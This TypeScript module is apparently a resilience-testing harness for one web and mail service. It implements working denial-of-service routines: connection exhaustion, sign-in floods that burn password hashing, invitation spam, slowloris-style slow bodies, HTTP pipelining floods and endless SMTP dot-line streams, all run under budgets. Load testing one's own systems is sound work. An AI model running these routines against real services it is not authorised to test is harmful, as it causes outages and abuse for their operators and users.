import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import type { Budget } from './budget.ts';
import { ask } from './fresh-request.ts';
import { converse, untilOne } from './smtp.ts';
import { Counts, type Tally } from './tally.ts';
import { hostOf, type Listener, type Route, routeFor, type Target } from './target.ts';

/** The attack on each door. Each ends with its budget and returns its tally. */

export interface Means {
  readonly target: Target;
  readonly key: string;
  readonly submission: Listener | null;
  readonly returnPath: Listener | null;
  /** The secret of a link that signs an owner in; null: nobody is invited. */
  readonly link: string | null;
}

/** Dots last: they may take all bytes that are left. */
export const DOORS = ['connections', 'sign-in', 'invitations', 'bodies', 'pipelining', 'dots'] as const;
export type Door = (typeof DOORS)[number];

/** Null: `means` has nothing to attack it with. */
type Attack = (means: Means, budget: Budget) => Promise<Tally> | null;

export const ATTACKS: Readonly<Record<Door, Attack>> = {
  connections,
  'sign-in': signIn,
  invitations,
  bodies,
  pipelining,
  dots,
};

/** Not all in one moment: then one waits for what this machine needs to open them. */
const CONNECTIONS_PER_MS = 2;

/** Sockets that say nothing, at every listener, again when they are cut. */
function connections({ target, submission, returnPath }: Means, { limits, signal }: Budget): Promise<Tally> {
  const counts = new Counts();
  const listeners = [webOf(target), submission, returnPath].filter((each) => each !== null);
  return together(limits.sockets, async (at) => {
    await pause(at / CONNECTIONS_PER_MS, signal);
    const listener = listeners[at % listeners.length]!;
    while (!signal.aborted) {
      const socket = connect(wayTo(target, listener, at));
      socket.once('connect', () => counts.add('connected'));
      socket.once('error', (error: NodeJS.ErrnoException) => counts.add(error.code ?? 'failed'));
      const end = () => socket.destroy();
      signal.addEventListener('abort', end, { once: true });
      await untilOne(socket, 'close');
      signal.removeEventListener('abort', end);
      await pause(200, signal);
    }
  }).then(() => counts.tally());
}

const SIGN_INS = 64;

/** Sign-ins of an unknown person, each of which costs a hash. */
function signIn({ target }: Means, { signal }: Budget): Promise<Tally> {
  const counts = new Counts();
  return together(SIGN_INS, async (at) => {
    for (let each = 0; !signal.aborted; each++) {
      const email = `nobody-${at}-${each}@attack.invalid`;
      const body = JSON.stringify({ email, password: 'not the password of anybody' });
      const { status } = await ask(target.url, {
        ...{ method: 'POST', path: '/v1/portal/session', headers: ownOrigin(target), body },
        ...{ route: routeFor(target, hostOf(target.url), at + each), signal },
      });
      if (!signal.aborted) counts.add(status || 'no answer');
      if (status !== 401) await pause(200, signal);
    }
  }).then(() => counts.tally());
}

const INVITATIONS = 60;
/** Reaches nobody. */
const VICTIM = 'victim@attack.invalid';

/** Sixty invitations to one address. */
function invitations({ target, link }: Means, { signal }: Budget): Promise<Tally> | null {
  if (link === null) return null;
  return inviteAll(target, link, signal);
}

async function inviteAll(target: Target, link: string, signal: AbortSignal): Promise<Tally> {
  const counts = new Counts();
  const headers = ownOrigin(target);
  const session = { method: 'POST', path: '/v1/portal/session', headers, body: JSON.stringify({ link }) };
  const { status, cookie } = await ask(target.url, session);
  if (status !== 200 || cookie === null) return { [`signing in with the link: ${status}`]: 1 };
  await together(INVITATIONS, async () => {
    const body = JSON.stringify({ email: VICTIM, role: 'viewer' });
    const how = { method: 'POST', path: '/v1/portal/members', headers: { ...headers, cookie }, body, signal };
    counts.add((await ask(target.url, how)).status || 'no answer');
  });
  return counts.tally();
}

const DOT_SESSIONS = 8;
const DOT_LINES = '..\r\n'.repeat(16 * 1024);

/** Mail of dot lines without end: none of it is accepted. */
function dots({ target, key, submission }: Means, budget: Budget): Promise<Tally> | null {
  if (submission === null) return null;
  const counts = new Counts();
  const { signal } = budget;
  return together(DOT_SESSIONS, async (at) => {
    while (!signal.aborted) {
      const { socket, say, end } = await converse(wayTo(target, submission, at), signal);
      const login = Buffer.from(`\0attack\0${key}`).toString('base64');
      const codes = [await say(`AUTH PLAIN ${login}`), await say('MAIL FROM:<attack@attack.invalid>')];
      codes.push(await say(`RCPT TO:<${VICTIM}>`), await say('DATA'));
      counts.add(`DATA: ${codes.at(-1) || 'cut off'}`);
      while (codes.at(-1) === 354 && !socket.destroyed && budget.takeBytes(DOT_LINES.length) > 0)
        if (!socket.write(DOT_LINES)) await untilOne(socket, 'drain', 'close');
      end();
      await pause(500, signal);
    }
  }).then(() => counts.tally());
}

const BODY_SOCKETS = 64;
const ANNOUNCED_BYTES = 64 * 1024 * 1024;

/** Batches as large as may be that are announced with a good key, and come by the byte. */
function bodies({ target, key }: Means, budget: Budget): Promise<Tally> {
  const counts = new Counts();
  const { signal, limits } = budget;
  const { url } = target;
  const head =
    `POST /v1/messages/batch HTTP/1.1\r\nHost: ${url.host}\r\nAuthorization: Bearer ${key}\r\n` +
    `Content-Type: application/json\r\nContent-Length: ${ANNOUNCED_BYTES}\r\n\r\n`;
  return together(Math.min(BODY_SOCKETS, limits.sockets), async (at) => {
    while (!signal.aborted) {
      const socket = openWeb(target, at);
      socket.once('data', (chunk: Buffer) => counts.add(statusOf(chunk)));
      socket.write(head);
      while (!socket.destroyed && !signal.aborted && budget.takeBytes(1) === 1) {
        socket.write('x');
        await pause(1_000, signal);
      }
      if (!socket.destroyed) counts.add('held until the end');
      socket.destroy();
      await pause(200, signal);
    }
  }).then(() => counts.tally());
}

const PIPELINING_SOCKETS = 64;
const PIPELINED_AT_ONCE = 256;

/** Requests without a key, and without waiting for answers. */
function pipelining({ target }: Means, budget: Budget): Promise<Tally> {
  const counts = new Counts();
  const { signal, limits } = budget;
  const requests = `GET /v1/account HTTP/1.1\r\nHost: ${target.url.host}\r\n\r\n`.repeat(PIPELINED_AT_ONCE);
  return together(Math.min(PIPELINING_SOCKETS, limits.sockets), async (at) => {
    for (let bytes = 1; bytes > 0 && !signal.aborted; await pause(200, signal)) {
      const socket = openWeb(target, at);
      socket.once('data', (chunk: Buffer) => counts.add(statusOf(chunk)));
      socket.resume();
      const end = () => socket.destroy();
      signal.addEventListener('abort', end, { once: true });
      while (!socket.destroyed && bytes > 0) {
        bytes = budget.takeBytes(requests.length);
        if (!socket.write(requests.slice(0, bytes))) await untilOne(socket, 'drain', 'close');
      }
      if (!socket.destroyed) await untilOne(socket, 'close');
      signal.removeEventListener('abort', end);
      if (!signal.aborted) counts.add('closed');
    }
  }).then(() => counts.tally());
}

/** A connection of the attacker number `at`, over TLS where the target has it. */
function openWeb(target: Target, at: number): Socket {
  const plain = connect(wayTo(target, webOf(target), at));
  plain.on('error', () => {});
  const { protocol, hostname } = target.url;
  if (protocol !== 'https:') return plain;
  const secure = connectTls({ socket: plain, servername: hostname, rejectUnauthorized: false });
  return secure.on('error', () => {});
}

const statusOf = (chunk: Buffer) => chunk.toString('latin1').slice(9, 12);

function webOf({ url }: Target): Listener {
  return { host: hostOf(url), port: Number(url.port || (url.protocol === 'https:' ? 443 : 80)) };
}

function wayTo(target: Target, { host, port }: Listener, at: number): Route & Listener {
  return { port, ...routeFor(target, host, at) };
}

function ownOrigin({ url }: Target): Record<string, string> {
  return { 'sec-fetch-site': 'same-origin', origin: url.origin };
}

async function together(count: number, each: (at: number) => Promise<void>): Promise<void> {
  await Promise.all(Array.from({ length: count }, (_, at) => each(at)));
}

async function pause(ms: number, signal: AbortSignal): Promise<void> {
  await sleep(ms, undefined, { signal }).catch(() => {});
}
